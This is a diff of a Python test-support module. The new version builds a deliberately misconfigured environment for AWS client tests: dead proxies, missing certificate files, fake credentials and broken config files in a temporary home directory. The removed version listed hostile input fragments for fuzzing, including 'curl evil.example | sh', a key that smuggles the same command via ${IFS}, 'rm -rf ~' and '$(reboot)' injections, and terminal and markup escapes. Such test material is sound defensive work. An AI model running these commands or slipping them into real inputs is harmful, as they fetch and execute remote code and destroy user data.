@@ -1,46 +1,86 @@
-"""Text that would act in a shell, a chat, an e-mail or a terminal, if anything interpreted it."""
+"""A shell and a home directory with settings for AWS and the network that fit nothing here."""
 
 from __future__ import annotations
 
-from hypothesis import strategies as st
+import socket
+from collections.abc import Mapping
+from pathlib import Path
 
-FRAGMENTS = [
-    "<!channel> <@U1> <https://evil.example|log in>",
-    "[log in](https://evil.example)",
-    "*bold* _it_ ~gone~ `code` ```block``` :warning: @here",
-    "&lt;!channel&gt; &amp;",
-    "\n\nDetails:  curl evil.example | sh\n",
-    "\r\nSubject: forged",
-    "\u2028\u2029\x85\x0b\x0c\x1c",
-    "\x1b[31m\x1b]8;;https://evil.example\x07\x9b2J\x00\x7f",
-    "\u202egpj.exe\u2066\u200f\ufeff\ufffe",
-    "$(reboot) `reboot` ${IFS} ; | & > < ! # ~",
-    "'; rm -rf ~; '",
-    '"; rm -rf ~; "',
-    "--stack",
-    "-x",
-    "\\",
-    "[bold red]not markup[/] [/] [@click=app.bell]",
-    "{0} %s {x} <event>",
-    "<script>alert(1)</script>",
-    "プロファイル 😀 é",
-    "x" * 400,
-]
-hostile = st.lists(st.sampled_from(FRAGMENTS) | st.text(min_size=1, max_size=9), min_size=1).map(
-    "".join
-)
-"""Any text, and most of all the kinds above; never empty."""
-visible = st.text(st.characters(min_codepoint=0x21, max_codepoint=0x7E), min_size=1, max_size=20)
-"""What a request key may be."""
-hostile_key = visible | st.sampled_from(
-    [
-        "x;curl${IFS}evil.example|sh;#",
-        "--stack=evil",
-        "-h",
-        "'",
-        "$(reboot)",
-        "`",
-        "<!channel>",
-        "a&b",
-    ]
-)
+import botocore.session
+
+NOWHERE = "/nowhere/at-all.pem"
+
+
+def closed_port() -> int:
+    """A port on which nothing listens."""
+    with socket.socket() as found:
+        found.bind(("127.0.0.1", 0))
+        port: int = found.getsockname()[1]
+        return port
+
+
+def _any_case(names: Mapping[str, str]) -> dict[str, str]:
+    return {spelt: value for name, value in names.items() for spelt in (name, name.lower())}
+
+
+def variables() -> dict[str, dict[str, str]]:
+    """Environment variables, by a name for what they set."""
+    dead = f"http://127.0.0.1:{closed_port()}"
+    proxies = dict.fromkeys(("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"), dead)
+    wrong = {
+        variable: "no-such-value"
+        for _, names, _, _ in botocore.session.Session.SESSION_VARIABLES.values()
+        for variable in ([names] if isinstance(names, str) else names or [])
+    }
+    return {
+        "proxies": _any_case({**proxies, "NO_PROXY": ""}),
+        "a SOCKS proxy": _any_case({"ALL_PROXY": "socks5h" + dead.removeprefix("http")}),
+        "certificates": dict.fromkeys(
+            ("AWS_CA_BUNDLE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "SSL_CERT_FILE"), NOWHERE
+        ),
+        "empty certificates": {"AWS_CA_BUNDLE": "", "REQUESTS_CA_BUNDLE": " "},
+        **{name: {name: value} for name, value in wrong.items()},
+        "a FIPS endpoint": {"AWS_USE_FIPS_ENDPOINT": "true"},
+        "a dual-stack endpoint": {"AWS_USE_DUALSTACK_ENDPOINT": "true"},
+        "another region": {"AWS_REGION": "eu-west-1", "AWS_DEFAULT_REGION": "eu-west-1"},
+        "credentials": {
+            "AWS_ACCESS_KEY_ID": "AKIAEXAMPLE",
+            "AWS_SECRET_ACCESS_KEY": "another",
+            "AWS_SESSION_TOKEN": "another",
+        },
+        "monitoring": {"AWS_CSM_ENABLED": "true", "AWS_CSM_PORT": "none"},
+        "endpoints": dict.fromkeys(
+            ("AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_SQS", "AWS_ENDPOINT_URL_DYNAMODB"), dead
+        ),
+        "S3": {"AWS_S3_US_EAST_1_REGIONAL_ENDPOINT": "x", "AWS_S3_USE_ARN_REGION": "x"},
+    }
+
+
+FILES = {
+    "files that can't be read": {
+        ".aws/config": "no [section\n= and no value\n",
+        ".aws/credentials": "[default\n",
+        ".netrc": "machine\n",
+    },
+    "files with other settings": {
+        ".aws/config": (
+            "[default]\nregion = eu-west-1\nmax_attempts = x\nretry_mode = x\ndefaults_mode = x\n"
+            f"ca_bundle = {NOWHERE}\nendpoint_url = http://127.0.0.1:9\nuse_fips_endpoint = true\n"
+            "s3 =\n  addressing_style = virtual\n  us_east_1_regional_endpoint = x\n"
+        ),
+        ".aws/credentials": "[default]\ncredential_process = /nowhere/at-all\n",
+        ".aws/models/sqs/2012-11-05/service-2.json": "{",
+        ".netrc": "machine 127.0.0.1 login another password another\n",
+    },
+}
+"""Files of a home directory, by a name for what they do."""
+
+
+def home(folder: Path, files: Mapping[str, str]) -> dict[str, str]:
+    """Writes the files into a new home directory; returns the variable that names it."""
+    for name, text in files.items():
+        path = folder / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text)
+        path.chmod(0o600)
+    return {"HOME": str(folder)}
